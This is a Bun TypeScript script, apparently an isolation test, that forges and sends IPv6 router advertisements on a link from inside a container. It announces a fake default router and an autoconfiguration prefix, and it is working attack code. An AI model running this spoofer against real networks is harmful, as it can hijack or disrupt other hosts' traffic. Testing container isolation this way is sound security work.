/**
 * `bun router-advertisement.ts LINK`: announces itself repeatedly on a link as a router for every destination and for 2001:db8:bad::/64
 * (RFC 4861, 4.2 and 4.6.2), like a container that attacks its host. Run it in the container's network namespace.
 */

import { dlopen, FFIType, ptr } from "bun:ffi";

const AF_PACKET = 17;
const SOCK_RAW = 3;
const ETH_P_IPV6 = 0x86dd;
const ICMPV6 = 58;

const { symbols } = dlopen("libc.so.6", {
  socket: { args: [FFIType.i32, FFIType.i32, FFIType.i32], returns: FFIType.i32 },
  if_nametoindex: { args: [FFIType.cstring], returns: FFIType.u32 },
  sendto: {
    args: [FFIType.i32, FFIType.ptr, FFIType.u64, FFIType.i32, FFIType.ptr, FFIType.u32],
    returns: FFIType.i64,
  },
});

const mac = Buffer.from("02000000bad1", "hex");
const source = Buffer.from("fe8000000000000000000000000bad01".padStart(32, "0"), "hex");
const everyone = Buffer.from("ff020000000000000000000000000001", "hex");
const prefix = Buffer.from("20010db80bad00000000000000000000", "hex");

/** The Internet's checksum (RFC 1071) with the pseudo-header of IPv6 (RFC 8200, 8.1). */
function checksum(message: Buffer): number {
  const pseudo = Buffer.alloc(40);
  source.copy(pseudo, 0);
  everyone.copy(pseudo, 16);
  pseudo.writeUInt32BE(message.length, 32);
  pseudo.writeUInt8(ICMPV6, 39);
  const all = Buffer.concat([pseudo, message]);
  let sum = 0;
  for (let at = 0; at < all.length; at += 2) sum += all.readUInt16BE(at);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >> 16);
  return ~sum & 0xffff;
}

function advertisement(): Buffer {
  const router = Buffer.from([134, 0, 0, 0, 64, 0, 0x07, 0x08, 0, 0, 0, 0, 0, 0, 0, 0]);
  const information = Buffer.concat([
    // The prefix is on this link, and hosts may derive addresses from it, for an hour.
    Buffer.from([3, 4, 64, 0xc0, 0, 0, 0x0e, 0x10, 0, 0, 0x0e, 0x10, 0, 0, 0, 0]),
    prefix,
  ]);
  const message = Buffer.concat([router, information, Buffer.from([1, 1]), mac]);
  message.writeUInt16BE(checksum(message), 2);
  const header = Buffer.alloc(40);
  header.writeUInt32BE(0x6000_0000, 0);
  header.writeUInt16BE(message.length, 4);
  header.set([ICMPV6, 255], 6);
  source.copy(header, 8);
  everyone.copy(header, 24);
  const ethernet = Buffer.concat([Buffer.from("333300000001", "hex"), mac, Buffer.from([0x86, 0xdd])]);
  return Buffer.concat([ethernet, header, message]);
}

const index = symbols.if_nametoindex(Buffer.from(`${process.argv[2]}\0`));
const fd = symbols.socket(AF_PACKET, SOCK_RAW, 0);
const address = Buffer.alloc(20);
address.writeUInt16LE(AF_PACKET, 0);
address.writeUInt16BE(ETH_P_IPV6, 2);
address.writeInt32LE(index, 4);
address.writeUInt8(6, 11);
address.set([0x33, 0x33, 0, 0, 0, 1], 12);
const packet = advertisement();
for (let sent = 0; sent < 5; sent++) {
  if (Number(symbols.sendto(fd, ptr(packet), packet.length, 0, ptr(address), address.length)) !== packet.length) {
    throw new Error("The advertisement could not be sent.");
  }
  await Bun.sleep(100);
}
